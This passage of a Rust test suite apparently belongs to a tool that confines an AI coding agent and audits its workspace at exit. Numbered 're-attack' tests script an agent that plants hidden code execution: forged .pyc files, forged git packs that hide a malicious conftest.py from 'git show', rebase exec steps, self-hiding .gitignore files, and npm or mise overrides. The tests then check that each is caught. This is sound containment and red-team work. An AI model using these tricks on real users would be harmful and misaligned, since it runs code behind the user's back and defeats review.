    assert_eq!(std::fs::read_to_string(dotfiles.join("gitconfig")).unwrap(), gitconfig, "the user's file is unchanged");
    assert_eq!(std::fs::read_to_string(work.join(".git/config")).unwrap(), repo_config);
    let dry = rig.command_in(&work, &["launch", "--dry-run", "claude"], None, &cargo_env);
    let shown = text(&dry);
    assert!(shown.contains("config read as a copy without its credentials") && shown.contains("http.extraheader"));
    assert!(!PLANTED.iter().any(|planted| shown.contains(planted)), "{shown}");
}

/// N5: the launcher resolves a `--writable` path and the helper grants it; another session's agent
/// writing there that swaps the directory for a link to `~/.config` in between must not get
/// `~/.config` granted. Here the helper is handed a path that is a link now (as if it became one
/// after the launcher looked): it refuses to confine rather than grant where the link leads.
#[test]
fn a_writable_path_swapped_for_a_link_after_the_check_is_refused_not_followed() {
    let rig = LaunchRig::new();
    let work = rig.workspace();
    let outside = rig.temp.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    let swapped = work.join("swapped");
    std::os::unix::fs::symlink(&outside, &swapped).unwrap();
    let planted = swapped.join("planted");
    let script = format!("echo planted > '{}'", planted.display());
    let output = Command::new(env!("CARGO_BIN_EXE_aileron"))
        .arg("__confine")
        .args(["--writable", work.to_str().unwrap(), "--writable", swapped.to_str().unwrap()])
        .args(["--", "/bin/sh", "-c", &script])
        .output()
        .unwrap();
    let said = text(&output);
    assert!(!outside.join("planted").exists(), "the agent wrote where the swapped-in link leads: {said}");
    assert_eq!(output.status.code(), Some(125), "{said}");
    assert!(said.contains("reached through a symbolic link now"), "{said}");
}

/// The fortieth re-attack's L2, end to end: in a repository that keeps its refs in a reftable
/// stack, a `git replace` the agent runs writes no file under `refs/replace` (the watch there
/// sees nothing); the exit reads the stack and says so.
#[test]
fn a_replace_ref_the_agent_writes_into_a_reftable_stack_is_said_at_exit() {
    let rig = LaunchRig::new();
    let work = rig.workspace();
    let git = |args: &[&str]| Command::new("git").args(args).current_dir(&work).status().unwrap().success();
    if !git(&["init", "-q", "--ref-format=reftable"]) {
        return;
    }
    for message in ["first", "second"] {
        assert!(git(&["-c", "user.name=u", "-c", "user.email=u@x", "commit", "-q", "--allow-empty", "-m", message]));
    }
    // The git that made the repository (an older one on the agent's PATH would refuse it).
    let made_it = std::env::split_paths(&std::env::var_os("PATH").unwrap())
        .map(|dir| dir.join("git"))
        .find(|git| git.is_file())
        .unwrap();
    let script = format!(
        "#!/bin/sh\n'{}' -c user.name=a -c user.email=a@x replace HEAD HEAD~1 && echo REPLACED\n",
        made_it.display()
    );
    claude_runs(&rig, &script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    assert!(said.contains("REPLACED"), "the agent's git wrote it: {said}");
    assert!(said.contains(&format!("wrote replace refs into {}", work.join(".git/reftable").display())), "{said}");
}

/// A symbolic replace ref the user had at launch replaces with whatever its target names: the
/// agent moving that branch (no replace ref written, `refs/replace` read-only) changed what git
/// shows for the user's commit. Said at exit.
#[test]
fn a_branch_a_symbolic_replace_ref_points_at_moved_by_the_agent_is_said_at_exit() {
    let rig = LaunchRig::new();
    let work = rig.workspace();
    let git = |args: &[&str]| Command::new("git").args(args).current_dir(&work).status().unwrap().success();
    let output = |args: &[&str]| {
        String::from_utf8(Command::new("git").args(args).current_dir(&work).output().unwrap().stdout).unwrap()
    };
    assert!(git(&["init", "-q"]));
    for message in ["first", "second", "third"] {
        assert!(git(&["-c", "user.name=u", "-c", "user.email=u@x", "commit", "-q", "--allow-empty", "-m", message]));
    }
    let first = output(&["rev-parse", "HEAD~2"]).trim().to_string();
    assert!(git(&["update-ref", "refs/heads/shown", "HEAD~1"]));
    assert!(git(&["symbolic-ref", &format!("refs/replace/{first}"), "refs/heads/shown"]));
    assert_eq!(output(&["log", "-1", "--format=%s", &first]).trim(), "second");
    claude_runs(&rig, "#!/bin/sh\ngit update-ref refs/heads/shown HEAD && echo MOVED\n");
    let launched = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&launched);
    assert!(launched.status.success(), "{said}");
    assert!(said.contains("MOVED"), "the agent's git moved it: {said}");
    assert_eq!(output(&["log", "-1", "--format=%s", &first]).trim(), "third", "git shows the agent's choice");
    let place = work.join(".git/refs/replace");
    assert!(said.contains(&format!("wrote replace refs into {} (or moved a ref", place.display())), "{said}");
}

/// The fortieth re-attack's L6 and L10, and what it left: mise reads `.miserc.toml` and
/// `.config/miserc.toml` in the directory the user is in and those above it, trusted or not, and
/// their `override_tool_versions_filenames` renames the version file mise reads there (a renamed
/// one ran the agent's `node`). Made by the agent anywhere in the workspace, each is moved aside
/// at the exit and said.
#[test]
fn mises_early_settings_made_by_the_agent_are_moved_aside() {
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    let script = "#!/bin/sh\nmkdir -p svc/.config .config\necho '{}' > .config/other.json\n\
                  echo 'override_tool_versions_filenames = [\"tools.txt\"]' > .config/miserc.toml\n\
                  echo 'override_tool_versions_filenames = [\"tools.txt\"]' > .miserc.toml\n\
                  echo 'override_tool_versions_filenames = [\"tools.txt\"]' > .miserc.local.toml\n\
                  echo 'override_tool_versions_filenames = [\"tools.txt\"]' > svc/.config/miserc.toml\n\
                  echo 'node path:./bin' > svc/tools.txt\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    assert!(work.join(".config/other.json").is_file(), "the rest of `.config` is the agent's: {said}");
    for made in [".miserc.toml", ".miserc.local.toml", ".config/miserc.toml", "svc/.config/miserc.toml"] {
        assert!(!work.join(made).exists(), "{made}: {said}");
        assert!(
            said.contains(&format!("{}, which would run what it chose as you; moved to", work.join(made).display())),
            "{made}: {said}"
        );
    }
}

/// What the fortieth re-attack left of its L9: mise (where `idiomatic_version_file_enable_tools`
/// names node) reads node's version from a `package.json`'s `devEngines.runtime`, and a `path:`
/// there runs the agent's `node` at the user's next one in the project; yarn's and pnpm's from
/// its `packageManager` (the forty-third re-attack's P1). JSON has no comment to leave a line
/// as: each string naming a `path:` that the agent added is emptied, every other byte as it was
/// (the user's own `path:` stays), whether a strict parser takes the file or not (P2: a
/// byte-order mark, a number past a double's range) and however the string is spelled (an
/// escape).
#[test]
fn a_runtime_run_from_the_project_that_the_agent_added_to_package_json_is_taken_out() {
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    let package = "{\n  \"name\": \"app\",\n  \"scripts\": { \"test\": \"node --test\" },\n  \"engines\": { \"bun\": \"path:/opt/bun\" }\n}\n";
    std::fs::write(work.join("package.json"), package).unwrap();
    let script = "#!/usr/bin/env python3\nimport json, os\n\
                  data = json.load(open('package.json'))\n\
                  data['devEngines'] = {'runtime': [{'name': 'node', 'version': 'path:./.cache/n'}, {'name': 'bun', 'version': '1.2'}]}\n\
                  data['packageManager'] = 'yarn@path:./.cache/y'\n\
                  json.dump(data, open('package.json', 'w'), indent=2)\n\
                  os.makedirs('svc', exist_ok=True)\n\
                  open('svc/package.json', 'w', encoding='utf-8-sig').write('{\"big\": 1e999, \"devEngines\": {\"runtime\": {\"name\": \"node\", \"version\": \"p\\\\u0061th:./.cache/n\"}}}')\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    let warned = format!(
        "wrote into {} a tool to run from a directory of the project (path:./.cache/n; yarn@path:./.cache/y)",
        work.join("package.json").display()
    );
    assert!(said.contains(&warned), "{said}");
    let now: Value = serde_json::from_str(&std::fs::read_to_string(work.join("package.json")).unwrap()).unwrap();
    let runtime = serde_json::json!([{ "name": "node", "version": "" }, { "name": "bun", "version": "1.2" }]);
    assert_eq!(now["devEngines"]["runtime"], runtime, "{now:#}");
    assert_eq!(now["packageManager"], "", "{now:#}");
    assert_eq!(now["engines"]["bun"], "path:/opt/bun", "the user's own stays: {now:#}");
    assert_eq!(now["scripts"]["test"], "node --test", "{now:#}");
    // The file a strict parser refuses, its escape read as mise reads it.
    let below = std::fs::read(work.join("svc/package.json")).unwrap();
    assert!(below.starts_with("\u{feff}".as_bytes()), "its byte-order mark kept");
    let below = String::from_utf8(below).unwrap();
    assert!(below.ends_with("\"version\": \"\"}}}") && below.contains("1e999"), "{below}");
    assert!(said.contains(&format!("wrote into {} a tool", work.join("svc/package.json").display())), "{said}");
}

/// The forty-second re-attack's N7: a linked worktree checked out outside the workspace keeps its
/// rebase's state in the repository's `.git/worktrees/<name>/`, which the agent may write; a todo
/// with an `exec` left there ran at the user's `git rebase --continue` in that worktree. Its steps
/// that run commands are taken out as the workspace's own are, and a strategy named by a path
/// there is moved aside.
#[test]
fn a_rebase_left_in_a_linked_worktrees_state_runs_no_command_the_agent_added() {
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    let linked = rig.workspace().with_file_name("linked");
    let added =
        Command::new("git").args(["worktree", "add", "-q", linked.to_str().unwrap()]).current_dir(&work).status();
    assert!(added.unwrap().success());
    let script = "#!/bin/sh\nset -e\nstate=.git/worktrees/linked/rebase-merge\nmkdir -p $state\n\
                  echo 'exec touch pwned' > $state/git-rebase-todo\necho '../../.cache/m' > $state/strategy\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    let state = work.join(".git/worktrees/linked/rebase-merge");
    assert!(said.contains("left a rebase in progress whose next steps run commands (exec touch pwned)"), "{said}");
    let todo = std::fs::read_to_string(state.join("git-rebase-todo")).unwrap();
    assert!(todo.starts_with("# aileron: written while an agent ran, taken out: exec touch pwned"), "{todo}");
    assert!(!state.join("strategy").exists(), "moved aside: {said}");
}

/// The forty-second re-attack's N4: npm reads its settings from `npm_config_<key>` in any case
/// (`NPM_CONFIG_SCRIPT_SHELL`, a mixed-case `npm_config_Userconfig`), and several name code: the
/// shell every `npm test` runs its script with, a config setting one. With such a variable naming
/// a file of the workspace, that file is read-only to the agent, as for the other code variables;
/// and Terraform's CLI config, named by `TF_CLI_CONFIG_FILE`, likewise.
#[test]
fn files_npm_and_terraform_settings_in_any_spelling_name_are_read_only() {
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    let names = ["bin/npmsh", "npmrc-global", "npmrc-user", "terraformrc"];
    for name in names {
        std::fs::create_dir_all(work.join(name).parent().unwrap()).unwrap();
        std::fs::write(work.join(name), "# the user's\n").unwrap();
    }
    let at = |name: &str| work.join(name).display().to_string();
    let script = format!(
        "#!/bin/sh\nfor f in {}; do echo 'script-shell=/tmp/x' >> \"$f\" 2>/dev/null && echo \"WROTE $f\"; done\nexit 0\n",
        names.join(" ")
    );
    claude_runs(&rig, &script);
    let env = [
        ("NPM_CONFIG_SCRIPT_SHELL", at("bin/npmsh")),
        ("npm_config_Globalconfig", at("npmrc-global")),
        ("npm_config_Userconfig", at("npmrc-user")),
        ("TF_CLI_CONFIG_FILE", at("terraformrc")),
    ];
    let env: Vec<(&str, &std::ffi::OsStr)> = env.iter().map(|(name, value)| (*name, value.as_ref())).collect();
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &env);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    assert!(!said.contains("WROTE"), "{said}");
    for name in names {
        assert_eq!(std::fs::read_to_string(work.join(name)).unwrap(), "# the user's\n", "{name}: {said}");
    }
}

/// The forty-third re-attack's P4: the user's mise reads the version file by another name
/// (`override_tool_versions_filenames` in their global miserc): a `path:` the agent added to
/// the renamed file is taken out as from a `.tool-versions`.
#[test]
fn a_version_file_the_user_renamed_is_read_by_its_name() {
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    let mise = rig.user_home().join(".config/mise");
    std::fs::create_dir_all(&mise).unwrap();
    std::fs::write(mise.join("miserc.toml"), "override_tool_versions_filenames = [\".versions\"]\n").unwrap();
    std::fs::write(work.join(".versions"), "node 20\n").unwrap();
    claude_runs(&rig, "#!/bin/sh\necho 'node path:./.cache/n' > .versions\n");
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    let versions = std::fs::read_to_string(work.join(".versions")).unwrap();
    assert!(versions.starts_with("# aileron: written while an agent ran, taken out: node path:"), "{versions}: {said}");
}

/// What the fortieth re-attack left: a new `.gitignore` that ignores itself hides itself and
/// what it lists from `git status` (a new `tests/conftest.py`, which the user's `pytest` runs).
/// Its patterns that hide it are taken out (left as comments), so `git status` shows it and what
/// it hid; a plain new `.gitignore`, and the user's own that ignores itself, stay as they are.
#[test]
fn a_new_gitignore_that_hides_itself_is_made_to_show() {
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    std::fs::create_dir_all(work.join("own")).unwrap();
    std::fs::write(work.join("own/.gitignore"), ".gitignore\n").unwrap();
    std::fs::create_dir_all(work.join(".venv")).unwrap();
    std::fs::write(work.join(".venv/.gitignore"), "*\n").unwrap();
    std::fs::write(work.join(".gitignore"), "/target/\n.pytest_cache/\n").unwrap();
    // A tracked directory of a name the walks skip (the forty-eighth re-attack's G2).
    std::fs::create_dir_all(work.join("spec/target/unit")).unwrap();
    std::fs::write(work.join("spec/target/unit/test_t.py"), "def test_t(): pass\n").unwrap();
    // A committed `node_modules` (as a GitHub action keeps it), and a tool's own self-hiding
    // `.gitignore` the user has (the forty-ninth re-attack's K1 and M1).
    std::fs::create_dir_all(work.join("action/node_modules/greet")).unwrap();
    std::fs::write(work.join("action/node_modules/greet/index.js"), "module.exports = 1;\n").unwrap();
    std::fs::create_dir_all(work.join("cachedir")).unwrap();
    std::fs::write(work.join("cachedir/.gitignore"), "*\n").unwrap();
    // An uncommitted `.gitignore` the user has (the fiftieth re-attack's E1).
    std::fs::create_dir_all(work.join("web")).unwrap();
    std::fs::write(work.join("web/.gitignore"), "dist/\n").unwrap();
    let git = |args: &[&str]| Command::new("git").args(args).current_dir(&work).status().unwrap().success();
    assert!(git(&["add", "spec", "action"]));
    assert!(git(&["-c", "user.name=u", "-c", "user.email=u@x", "commit", "-qm", "spec"]));
    let script = "#!/bin/sh\nmkdir -p tests app .cargo\necho 'import os' > tests/conftest.py\n\
                  printf '*\\n' > tests/.gitignore\nprintf 'node_modules/\\n' > app/.gitignore\n\
                  echo '[build]' > .cargo/config.toml\nprintf '*\\n' > .cargo/.gitignore\n\
                  mkdir -p lib/target/deep .cache\necho 'import os' > lib/target/deep/conftest.py\n\
                  printf '*\\n' > lib/target/deep/.gitignore\necho 'x' > .cache/setup.test.js\n\
                  printf '*\\n' > .cache/.gitignore\necho x > .venv/made\n\
                  mkdir -p target .pytest_cache && printf '*\\n' > target/.gitignore\n\
                  printf '*\\n' > spec/target/unit/.gitignore\necho 'import os' > spec/target/unit/conftest.py\n\
                  mkdir -p moved && mv cachedir moved/target && echo 'import os' > moved/target/conftest.py\n\
                  mkdir -p action/node_modules/greet/node_modules/leftpad\n\
                  printf '*\\n' > action/node_modules/greet/node_modules/.gitignore\n\
                  printf '*\\n' >> web/.gitignore\n\
                  mkdir -p helpers/target/.git && echo x > helpers/target/.git/cache.test.js\n\
                  printf '# Created by pytest automatically.\\n*\\n' > .pytest_cache/.gitignore\n";
    claude_runs(&rig, script);
    let status = || {
        let output = Command::new("git").args(["status", "--porcelain"]).current_dir(&work).output().unwrap();
        String::from_utf8(output.stdout).unwrap()
    };
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    let warned =
        format!("made {}, whose patterns hide it from `git status` (*)", work.join("tests/.gitignore").display());
    assert!(said.contains(&warned), "{said}");
    assert!(status().contains("?? tests/"), "{}", status());
    // In a project's `.cargo/` too, a name the home's walks skip (the forty-fifth re-attack's R1).
    let cargo = format!("made {}, whose patterns hide it", work.join(".cargo/.gitignore").display());
    assert!(said.contains(&cargo), "{said}");
    assert!(status().contains("?? .cargo/"), "{}", status());
    // In the directories the walks do not enter (`target`, `.cache`), made in the session: the
    // user's `pytest` and `node --test` enter them (the forty-seventh re-attack's G1).
    for made in [
        "lib/target/deep/.gitignore",
        ".cache/.gitignore",
        "spec/target/unit/.gitignore",
        "moved/target/.gitignore",
        "action/node_modules/greet/node_modules/.gitignore",
    ] {
        let warned = format!("made {}, whose patterns hide it", work.join(made).display());
        assert!(said.contains(&warned), "{made}: {said}");
    }
    assert!(status().contains("?? lib/") && status().contains("?? .cache/"), "{}", status());
    // A line added to the user's own that hides it (E1): taken out, the user's line kept.
    let web = work.join("web/.gitignore");
    assert!(said.contains(&format!("added to {}, which git does not track", web.display())), "{said}");
    let kept = std::fs::read_to_string(&web).unwrap();
    assert_eq!(kept, "dist/\n# aileron: written while an agent ran, taken out: *\n");
    // A `.git` made where the walks skip by name: git lists nothing below it (D2).
    let git_dir = work.join("helpers/target/.git");
    assert!(said.contains(&format!("made {}: git shows nothing below a `.git`", git_dir.display())), "{said}");
    assert_eq!(
        std::fs::read_to_string(work.join(".venv/.gitignore")).unwrap(),
        "*\n",
        "the user's own, in a changed `.venv`"
    );
    // One in a directory the project's own `.gitignore` ignores is hidden by the user's choice.
    assert_eq!(std::fs::read_to_string(work.join("target/.gitignore")).unwrap(), "*\n", "{said}");
    let ignored = format!("made {},", work.join("target/.gitignore").display());
    assert!(!said.contains(&ignored) && !said.contains(".pytest_cache"), "{said}");
    let pytest = std::fs::read_to_string(work.join(".pytest_cache/.gitignore")).unwrap();
    assert_eq!(pytest, "# Created by pytest automatically.\n*\n");
    let kept = std::fs::read_to_string(work.join("tests/.gitignore")).unwrap();
    assert_eq!(kept, "# aileron: written while an agent ran, taken out: *\n");
    assert_eq!(std::fs::read_to_string(work.join("app/.gitignore")).unwrap(), "node_modules/\n");
    assert_eq!(std::fs::read_to_string(work.join("own/.gitignore")).unwrap(), ".gitignore\n", "the user's own");
    assert!(!said.contains("app/.gitignore") && !said.contains("own/.gitignore"), "{said}");
}

/// The fifty-first re-attack's Y4 and Y5: the user's `.gitignore` files no index tracks show
/// none of their changes in `git status` or `git diff`. A pattern the agent adds to one is taken
/// out (`conftest.py` hid a new `tests/conftest.py` in a tracked directory); one whose negations
/// it deleted (a whitelist's) is put back as it was. A tracked one's change is `git diff`'s.
#[test]
fn the_agents_changes_to_an_untracked_gitignore_do_not_hide_what_it_made() {
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    std::fs::write(work.join(".gitignore"), "__pycache__/\n").unwrap();
    std::fs::create_dir_all(work.join("web/src")).unwrap();
    let whitelist = "*\n!.gitignore\n!*/\n!*.js\n";
    std::fs::write(work.join("web/.gitignore"), whitelist).unwrap();
    std::fs::create_dir_all(work.join("tracked")).unwrap();
    std::fs::write(work.join("tracked/.gitignore"), "dist/\n").unwrap();
    let git = |args: &[&str]| Command::new("git").args(args).current_dir(&work).status().unwrap().success();
    assert!(git(&["add", "tracked"]));
    assert!(git(&["-c", "user.name=u", "-c", "user.email=u@x", "commit", "-qm", "tracked"]));
    let script = "#!/bin/sh\nmkdir -p tests\nprintf 'conftest.py\\n' >> .gitignore\necho 'import os' > tests/conftest.py\n\
                  sed -i '/^!/d' web/.gitignore\necho x > web/src/cache.test.js\n\
                  printf 'build/\\n' >> tracked/.gitignore\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    let root = work.join(".gitignore");
    assert!(said.contains(&format!("added to {}, which git does not track", root.display())), "{said}");
    let taken = "__pycache__/\n# aileron: written while an agent ran, taken out: conftest.py\n";
    assert_eq!(std::fs::read_to_string(&root).unwrap(), taken);
    let web = work.join("web/.gitignore");
    assert!(said.contains(&format!("took out or moved patterns of {}", web.display())), "{said}");
    assert_eq!(std::fs::read_to_string(&web).unwrap(), whitelist);
    let status = Command::new("git").args(["status", "--porcelain", "-uall"]).current_dir(&work).output().unwrap();
    let status = String::from_utf8(status.stdout).unwrap();
    assert!(status.contains("?? tests/conftest.py") && status.contains("?? web/src/cache.test.js"), "{status}");
    assert_eq!(std::fs::read_to_string(work.join("tracked/.gitignore")).unwrap(), "dist/\nbuild/\n");
    assert!(!said.contains("tracked/.gitignore"), "{said}");
}

/// The fifty-first re-attack: git lists nothing below a `.git` of any case, and `node --test`
/// (`npm test`) enters every directory but `node_modules`. A test file put in the user's own
/// `.git` (Y1) is moved aside; a new `.git` in `.tox` (Y2: the search for repositories skips that
/// name, the walk for trusted files enters it), a `.Git` (Y3: git skips it under
/// `core.ignorecase`) and one in a `target` a gdb setting has the walk enter (Y6) are named.
#[test]
fn test_files_below_a_git_of_any_case_are_not_left_unsaid() {
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    std::fs::write(rig.user_home().join(".gdbinit"), "add-auto-load-safe-path /\n").unwrap();
    let script = "#!/bin/sh\necho x > .git/cache.test.js\nmkdir -p .git/objects/ab lib/.tox/.git lib/.Git \
                  helpers/target/.git\necho x > .git/objects/ab/x.test.mjs\necho x > lib/.tox/.git/a.test.js\n\
                  echo x > lib/.Git/b.test.js\necho x > helpers/target/.git/c.test.js\n\
                  mkdir -p .git/objects/g/info && printf '\"g\" g\\n' > .git/objects/info/alternates\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    for planted in [".git/cache.test.js", ".git/objects/ab/x.test.mjs"] {
        let planted = work.join(planted);
        assert!(said.contains(&format!("created {}", planted.display())), "{said}");
        assert!(!planted.exists(), "{said}");
    }
    for made in ["lib/.tox/.git", "lib/.Git", "helpers/target/.git"] {
        let warned = format!("made {}: git shows nothing below a `.git`", work.join(made).display());
        assert!(said.contains(&warned), "{made}: {said}");
    }
    assert!(!said.contains(&format!("made {}:", work.join(".git").display())), "the user's own: {said}");
    // An alternate the agent added (the fifty-fourth re-attack's Z4): the list put back as it was.
    let alternates = work.join(".git/objects/info/alternates");
    assert!(said.contains(&format!("changed {}, which has git read objects", alternates.display())), "{said}");
    assert!(!alternates.exists(), "{said}");
}

/// The forty-fourth re-attack's Q9: Python imports a `__pycache__/*.pyc` in place of its source
/// when the header names the source's modification time and size, which the agent copied from
/// the user's unchanged `pkg/util.py`; `__pycache__` is ignored, so `git status` and `git diff`
/// stay clean, and the user's next import ran it. Compiled Python written in the session is
/// removed at the exit (Python compiles it again), and one with no source moved aside.
#[test]
fn compiled_python_written_in_the_session_is_not_left_to_run() {
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    std::fs::create_dir_all(work.join("pkg")).unwrap();
    std::fs::write(work.join("pkg/__init__.py"), "").unwrap();
    std::fs::write(work.join("pkg/util.py"), "X = 1\n").unwrap();
    let script = "#!/usr/bin/env python3\nimport importlib.util, os, py_compile, struct\n\
                  source = 'pkg/util.py'\nstat = os.stat(source)\n\
                  open('evil.py', 'w').write(\"open('pwned', 'w').write('x')\\nX = 1\\n\")\n\
                  py_compile.compile('evil.py', cfile='evil.pyc')\n\
                  data = bytearray(open('evil.pyc', 'rb').read())\n\
                  struct.pack_into('<II', data, 8, int(stat.st_mtime) & 0xffffffff, stat.st_size & 0xffffffff)\n\
                  os.makedirs('pkg/__pycache__', exist_ok=True)\n\
                  open(importlib.util.cache_from_source(source), 'wb').write(data)\n\
                  os.replace('evil.pyc', 'pkg/json.pyc')\nos.remove('evil.py')\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    assert!(said.contains("1 compiled Python file(s) written in `__pycache__`"), "{said}");
    assert!(said.contains(&format!("{}, which would run", work.join("pkg/json.pyc").display())), "{said}");
    assert!(!work.join("pkg/json.pyc").exists());
    let imported = Command::new("python3").args(["-c", "import pkg.util"]).current_dir(&work).status().unwrap();
    assert!(imported.success());
    assert!(!work.join("pwned").exists(), "the forged compiled file ran");
}

// ---------------------------------------------------------------------------------------------
// The fifty-seventh re-attack (decision 0013): the tests below assert the secure outcome; each
// failed while its hole was open.
// ---------------------------------------------------------------------------------------------

/// The agent's Python helpers: `git()` runs git as the agent does, `head_of` and `one_object_pack`
/// lay a pack out as git writes one, `index_of` a version 2 index naming `name` at offset 12.
const RA57_HELPERS: &str = r##"#!/usr/bin/env python3
import hashlib, os, struct, subprocess, zlib
def git(*args, env=None):
    return subprocess.run(['git', '-c', 'user.name=A', '-c', 'user.email=a@x', *args], check=True,
                          capture_output=True, env=env).stdout.decode().strip()
EVIL = b"import os\nos.system('touch PWNED')\n"
HARMLESS = b"# pytest settings for the suite\n"
def head_of(kind, size):
    byte = (kind << 4) | (size & 0x0f); size >>= 4; out = bytearray()
    while size:
        out.append(byte | 0x80); byte = size & 0x7f; size >>= 7
    out.append(byte); return bytes(out)
def one_object_pack(body):
    return b'PACK' + struct.pack('>II', 2, 1) + head_of(3, len(body)) + zlib.compress(body)
def index_of(name, pack_sum):
    idx = bytearray(b'\xfftOc' + struct.pack('>I', 2))
    for bucket in range(256):
        idx += struct.pack('>I', 1 if bucket >= name[0] else 0)
    idx += name + struct.pack('>I', 0) + struct.pack('>I', 12) + pack_sum
    return bytes(idx + hashlib.sha1(bytes(idx)).digest())
def commit_evil_conftest():
    open('conftest.py', 'wb').write(EVIL)
    git('add', 'conftest.py')
    git('commit', '-qm', 'tests: add conftest')
    return bytes.fromhex(git('rev-parse', 'HEAD:conftest.py'))
"##;

/// What the user's `git show HEAD:conftest.py` says, and what the checked-out file holds.
fn ra57_shown_and_checked_out(work: &Path) -> (String, String) {
    let shown = Command::new("git").args(["show", "HEAD:conftest.py"]).current_dir(work).output().unwrap();
    let shown = String::from_utf8_lossy(&shown.stdout).to_string();
    (shown, std::fs::read_to_string(work.join("conftest.py")).unwrap_or_default())
}

/// Held (a control): the fifty-second re-attack's F2, a forged one-object pack naming the blob of
/// the agent's committed `conftest.py` for harmless content, in a plain workspace: moved aside.
#[test]
fn re_attack_57_held_a_forged_pack_in_a_plain_workspace_is_not_left() {
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    let script = format!(
        "{RA57_HELPERS}blob = commit_evil_conftest()\npack = one_object_pack(HARMLESS)\n\
         pack += hashlib.sha1(pack).digest()\nstem = os.path.join('.git/objects/pack', 'pack-' + '1' * 40)\n\
         open(stem + '.pack', 'wb').write(pack)\nopen(stem + '.idx', 'wb').write(index_of(blob, pack[-20:]))\n"
    );
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    let (shown, checked_out) = ra57_shown_and_checked_out(&work);
    assert!(checked_out.contains("os.system"), "the agent's conftest.py is there: {checked_out}");
    assert!(
        !shown.contains("pytest settings"),
        "git log -p shows another conftest.py than runs ({shown:?}); the exit said: {said}"
    );
}

/// Held (a control): the thirty-ninth re-attack's K1, a loose object holding other content than
/// its name says, in a plain workspace: moved aside.
#[test]
fn re_attack_57_held_a_forged_loose_object_in_a_plain_workspace_is_not_left() {
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    let script = format!(
        "{RA57_HELPERS}name = hashlib.sha1(b'blob %d\\0' % len(EVIL) + EVIL).hexdigest()\n\
         os.makedirs('.git/objects/' + name[:2], exist_ok=True)\n\
         open('.git/objects/' + name[:2] + '/' + name[2:], 'wb').write(zlib.compress(b'blob %d\\0' % len(HARMLESS) + HARMLESS))\n\
         commit_evil_conftest()\n"
    );
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    let (shown, checked_out) = ra57_shown_and_checked_out(&work);
    assert!(checked_out.contains("os.system"), "the agent's conftest.py is there: {checked_out}");
    assert!(
        !shown.contains("pytest settings"),
        "git log -p shows another conftest.py than runs ({shown:?}); the exit said: {said}"
    );
}

/// The user's gdb trusts every directory (`add-auto-load-safe-path /`): the workspace is then a
/// trusted scope for certain, so `IndexSnapshot::hidden`'s look at objects and packs runs (it
/// runs only where a protected or trusted path lies in the worktree).
fn ra57_trusted_workspace(rig: &LaunchRig) -> PathBuf {
    let (work, _) = rig.committed_workspace();
    std::fs::write(rig.user_home().join(".gdbinit"), "add-auto-load-safe-path /\n").unwrap();
    work
}

/// R57-2: a forged pack past `pack::MAX_PACK_BYTES`. Git reads a pack through its index's
/// offsets and checks only the trailing 20 bytes against the index (not a hash of the whole), so
/// a 300 MiB sparse pack (8 KiB on disk: the one object, a hole, the sum) is read as any other;
/// `pack::check` answers `TooLarge` from its size alone and the pack is left in place, with only
/// the vague "could not be looked at" warning.
#[test]
fn re_attack_57_r2_a_forged_pack_made_sparse_past_the_cap_is_not_left() {
    let rig = LaunchRig::new();
    let work = ra57_trusted_workspace(&rig);
    let script = format!(
        "{RA57_HELPERS}blob = commit_evil_conftest()\npack = one_object_pack(HARMLESS)\n\
         stem = os.path.join('.git/objects/pack', 'pack-' + '1' * 40)\ntotal = 300 << 20\n\
         f = open(stem + '.pack', 'wb')\nf.write(pack)\nf.truncate(total - 20)\nf.seek(total - 20)\n\
         f.write(b'\\x11' * 20)\nf.close()\nopen(stem + '.idx', 'wb').write(index_of(blob, b'\\x11' * 20))\n"
    );
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
